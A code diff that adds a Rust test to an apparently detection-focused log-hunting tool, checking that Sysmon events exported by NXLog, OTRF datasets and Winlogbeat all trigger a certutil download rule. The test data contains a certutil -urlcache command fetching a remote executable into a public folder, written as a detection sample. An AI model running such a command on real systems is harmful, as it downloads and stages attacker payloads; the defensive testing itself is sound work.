@@ -93,6 +93,59 @@ fn builtin_rules_when_no_rules_are_given() {
     );
 }
 
+/// The same Sysmon process creation as NXLog, the OTRF Security Datasets and Winlogbeat
+/// export it: each meets the same built-in rule, with its computer and command line shown.
+#[test]
+fn windows_events_exported_as_json_meet_the_same_rules() {
+    let dir = tempfile::tempdir().unwrap();
+    let cmd = r"certutil.exe -urlcache -split -f http://203.0.113.66/a.exe C:\Users\Public\a.exe";
+    let image = r"C:\\Windows\\System32\\certutil.exe";
+    let lines = [
+        // NXLog im_msvistalog + to_json: flat, Hostname, SourceName, local EventTime.
+        format!(
+            r#"{{"EventTime":"2024-03-10 11:00:01","Hostname":"nx1.corp.example","EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","ExecutionProcessID":2044,"Image":"{image}","OriginalFileName":"CertUtil.exe","CommandLine":"{}","User":"CORP\\ann"}}"#,
+            cmd.replace('\\', "\\\\")
+        ),
+        // OTRF Security Datasets (Mordor): flat, @timestamp, Computer, Provider_Name.
+        format!(
+            r#"{{"@timestamp":"2024-03-10T11:00:02.000Z","Computer":"otrf1.corp.example","EventID":"1","Provider_Name":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Image":"{image}","OriginalFileName":"CertUtil.exe","CommandLine":"{}"}}"#,
+            cmd.replace('\\', "\\\\")
+        ),
+        // Winlogbeat: winlog.* with the event data nested.
+        format!(
+            r#"{{"@timestamp":"2024-03-10T11:00:03.000Z","host":{{"name":"wlb1"}},"winlog":{{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":1,"computer_name":"wlb1.corp.example","provider_name":"Microsoft-Windows-Sysmon","event_data":{{"Image":"{image}","OriginalFileName":"CertUtil.exe","CommandLine":"{}"}}}}}}"#,
+            cmd.replace('\\', "\\\\")
+        ),
+    ];
+    let file = dir.path().join("exports.ndjson");
+    std::fs::write(&file, lines.join("\n") + "\n").unwrap();
+    let dets = jsonl(&hunt(&[file.to_str().unwrap(), "--format", "jsonl"]));
+    let certutil: Vec<&Value> = dets
+        .iter()
+        .filter(|d| d["rule"] == "File Download With Certutil Or Bitsadmin")
+        .collect();
+    let computers: BTreeSet<&str> = certutil
+        .iter()
+        .map(|d| d["computer"].as_str().unwrap_or(""))
+        .collect();
+    assert_eq!(
+        computers,
+        BTreeSet::from(["nx1.corp.example", "otrf1.corp.example", "wlb1"]),
+        "{dets:#?}"
+    );
+    for d in &certutil {
+        let details = d["details"].as_str().unwrap();
+        assert!(details.contains("-urlcache -split"), "{d}");
+        assert!(
+            d["timestamp"]
+                .as_str()
+                .unwrap()
+                .starts_with("2024-03-10T11:00:0"),
+            "{d}"
+        );
+    }
+}
+
 #[test]
 fn rules_dir_with_a_broken_rule() {
     let rules = data("rules");
